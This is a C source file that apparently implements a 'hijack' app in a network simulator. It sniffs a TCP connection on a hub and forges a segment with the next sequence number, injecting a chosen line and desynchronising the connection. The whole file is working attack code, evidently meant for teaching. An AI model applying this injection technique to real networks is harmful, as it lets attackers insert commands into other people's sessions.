/* SPDX-License-Identifier: MIT
 * hijack: whoever sees a connection can put his own words into it.
 *
 *      alice ----------- a hub ----------- bob        the interface takes every frame
 *                          |
 *                       mallory     reads the numbers of alice's segments; writes one with the next number
 *
 * bob takes it for alice's and acknowledges what she never sent. From then on the two disagree about what
 * comes next: each answers the other's segments with an acknowledgment, RFC 9293 section 3.10.7.4, and the
 * connection is of no more use. */
#include "nodes/apps/forge.h"
#include "nodes/apps/tcp_apps.h"

#include <string.h>

struct hijack {
    struct nt_app *app;
    struct stack_watcher watcher; /* of the first interface */
    struct ipv4_address from, to;
    const char *line;
    uint16_t port;
    int64_t after; /* data segments of the victim to let pass */
    bool is_done;
};

enum { OPT_FROM, OPT_TO, OPT_PORT, OPT_AFTER, OPT_SEND };

static void finish(struct hijack *hijack)
{
    stack_unwatch(stack_of(hijack->app->node), &hijack->watcher);
    nt_app_exit(hijack->app, hijack->is_done ? 0 : 1);
}

/* As the victim would have gone on: the number behind what it sent last, and what it acknowledged last. */
static void inject(struct hijack *hijack, const struct tcp_segment *seen)
{
    char text[200];
    size_t length = strlen(hijack->line) < sizeof text - 1 ? strlen(hijack->line) : sizeof text - 1;
    memcpy(text, hijack->line, length);
    text[length++] = '\n';
    struct tcp_segment lie = {.source_port = seen->source_port,
                              .destination_port = seen->destination_port,
                              .seq = tcp_segment_end(seen),
                              .ack = seen->ack,
                              .flags = TCP_FLAG_PSH | TCP_FLAG_ACK,
                              .window = seen->window,
                              .options = {.has_timestamp = seen->options.has_timestamp,
                                          .ts_value = seen->options.ts_value,
                                          .ts_echo = seen->options.ts_echo},
                              .data = (const uint8_t *)text,
                              .length_bytes = (uint32_t)length};
    hijack->is_done = forge_send(stack_of(hijack->app->node), hijack->from, hijack->to, &lie);
    nt_print(hijack->app, "sent \"%s\" as if from port %u, with sequence number %u\n", hijack->line,
             seen->source_port, lie.seq.value);
    finish(hijack);
}

static void on_frame(struct stack_watcher *watcher, const struct ethernet_header *ethernet,
                     struct packet packet)
{
    struct hijack *hijack = NT_OWNER(watcher, struct hijack, watcher);
    struct ipv4_header ip;
    struct tcp_segment segment;
    if (ethernet->type_or_length != ETHERNET_TYPE_IPV4 ||
        ipv4_header_parse(packet.bytes, packet.length_bytes, &ip) != IPV4_OK || ip.protocol != TCP_PROTOCOL ||
        !ipv4_is_equal(ip.source, hijack->from) || !ipv4_is_equal(ip.destination, hijack->to))
        return;
    struct net_address source = net_from_ipv4(ip.source), destination = net_from_ipv4(ip.destination);
    if (tcp_segment_parse(packet.bytes + ip.header_bytes, (size_t)(ip.total_bytes - ip.header_bytes), &source,
                          &destination, &segment) != TCP_WIRE_OK ||
        segment.destination_port != hijack->port)
        return;
    if (segment.length_bytes > 0 && --hijack->after <= 0)
        inject(hijack, &segment);
}

static const struct nt_param hijack_params[] = {
    {.name = "from",
     .kind = NT_PARAM_TEXT,
     .flags = NT_PARAM_POSITIONAL | NT_PARAM_REQUIRED,
     .summary = "whose words are forged"},
    {.name = "to",
     .kind = NT_PARAM_TEXT,
     .flags = NT_PARAM_POSITIONAL | NT_PARAM_REQUIRED,
     .summary = "who is to believe them"},
    {.name = "--port",
     .kind = NT_PARAM_INTEGER,
     .default_text = "23",
     .least = 1,
     .most = 65535,
     .summary = "port there"},
    {.name = "--after",
     .kind = NT_PARAM_INTEGER,
     .default_text = "1",
     .least = 1,
     .most = INT32_MAX,
     .summary = "segments with data to watch first"},
    {.name = "--send", .kind = NT_PARAM_TEXT, .flags = NT_PARAM_REQUIRED, .summary = "the line to put in"},
    {0}};

static void hijack_start(struct nt_app *app)
{
    struct hijack *hijack = app->state;
    struct stack *stack = stack_of(app->node);
    const struct nt_value *values = app->values;
    *hijack = (struct hijack){.app = app,
                              .watcher = {.seen = on_frame},
                              .line = values[OPT_SEND].text,
                              .port = (uint16_t)values[OPT_PORT].number,
                              .after = values[OPT_AFTER].number};
    if (stack_resolve(stack, values[OPT_FROM].text, &hijack->from) &&
        stack_resolve(stack, values[OPT_TO].text, &hijack->to) && stack_watch(stack, 0, &hijack->watcher))
        return;
    nt_print(app, "hijack: it needs an interface, and two machines that have addresses\n");
    nt_app_exit(app, 2);
}

static void hijack_interrupt(struct nt_app *app)
{
    if (app->is_running)
        finish(app->state);
}

const struct nt_app_type hijack_app = {.size = sizeof(struct nt_app_type),
                                       .state_bytes = sizeof(struct hijack),
                                       .name = "hijack",
                                       .summary = "puts a line into a TCP connection that passes by",
                                       .params = hijack_params,
                                       .start = hijack_start,
                                       .interrupt = hijack_interrupt};
